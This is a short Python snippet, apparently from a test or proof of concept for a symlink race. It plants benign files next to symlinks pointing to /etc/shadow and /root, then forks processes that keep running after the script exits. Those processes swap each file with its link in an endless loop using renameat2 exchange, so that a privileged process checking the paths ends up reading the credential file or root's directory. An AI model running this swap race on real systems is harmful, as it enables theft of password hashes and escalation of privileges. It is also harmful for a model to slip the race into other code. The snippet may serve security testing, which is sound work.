# Exchanges a file and a link as fast as it can, from processes that go on when this one ends.
os.makedirs("out/d")
open("out/a", "w").write("benign")
os.symlink("/etc/shadow", "out/b")
open("out/d/canary", "w").write("benign")
os.symlink("/root", "out/e")
for first, second in ((b"out/a", b"out/b"), (b"out/d", b"out/e")):
    if os.fork() == 0:
        while True:
            call("renameat2", -100, first, -100, second, 2)
print("swapping", flush=True)
